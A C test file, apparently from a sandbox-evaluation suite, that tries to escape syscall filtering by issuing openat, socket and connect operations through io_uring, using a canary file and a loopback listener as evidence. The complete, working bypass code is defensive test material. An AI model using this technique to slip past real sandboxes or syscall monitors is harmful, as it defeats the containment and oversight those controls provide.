// attack: io_uring
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// setup: listener
// needs: io_uring
// evidence: io_uring ops run in the kernel where per-syscall filters do not see them: IORING_OP_OPENAT creates canary iouring_canary, IORING_OP_SOCKET+CONNECT reaches the TCP listener
// escaped-if: ev iouring_canary || conn tcp
#include "attack.h"
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>

static int ring;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;

static int submit(struct io_uring_sqe *in)
{
	unsigned t = *sq_tail, idx = t & *sq_mask;
	sqes[idx] = *in;
	sq_array[idx] = idx;
	__atomic_store_n(sq_tail, t + 1, __ATOMIC_RELEASE);
	if (syscall(426 /* io_uring_enter */, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1000 - errno;
	unsigned h = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
	if (h == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
		return -2000;
	int res = cqes[h & *cq_mask].res;
	__atomic_store_n(cq_head, h + 1, __ATOMIC_RELEASE);
	return res;
}

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	ring = syscall(425 /* io_uring_setup */, 8, &p);
	if (ring < 0) {
		say("io_uring_setup: %s\n", strerror(errno));
		return 1;
	}
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sqsz = cqsz = sqsz > cqsz ? sqsz : cqsz;
	char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	char *cq = (p.features & IORING_FEAT_SINGLE_MMAP) ? sq :
		mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		    ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		say("mmap rings: %s\n", strerror(errno));
		return 1;
	}
	sq_tail = (unsigned *)(sq + p.sq_off.tail);
	sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)(sq + p.sq_off.array);
	cq_head = (unsigned *)(cq + p.cq_off.head);
	cq_tail = (unsigned *)(cq + p.cq_off.tail);
	cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

	char path[1024];
	evpath(path, sizeof path, "iouring_canary");
	struct io_uring_sqe e;
	memset(&e, 0, sizeof e);
	e.opcode = IORING_OP_OPENAT;
	e.fd = AT_FDCWD;
	e.addr = (unsigned long)path;
	e.open_flags = O_CREAT | O_WRONLY;
	e.len = 0644;
	int r = submit(&e);
	say("openat via io_uring: %d\n", r);

	memset(&e, 0, sizeof e);
	e.opcode = IORING_OP_SOCKET;
	e.fd = AF_INET;
	e.off = SOCK_STREAM;
	int s = submit(&e);
	say("socket via io_uring: %d\n", s);
	if (s >= 0) {
		struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(arg_long("tcp")) };
		a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		memset(&e, 0, sizeof e);
		e.opcode = IORING_OP_CONNECT;
		e.fd = s;
		e.addr = (unsigned long)&a;
		e.off = sizeof a;
		say("connect via io_uring: %d\n", submit(&e));
	}
	return 0;
}
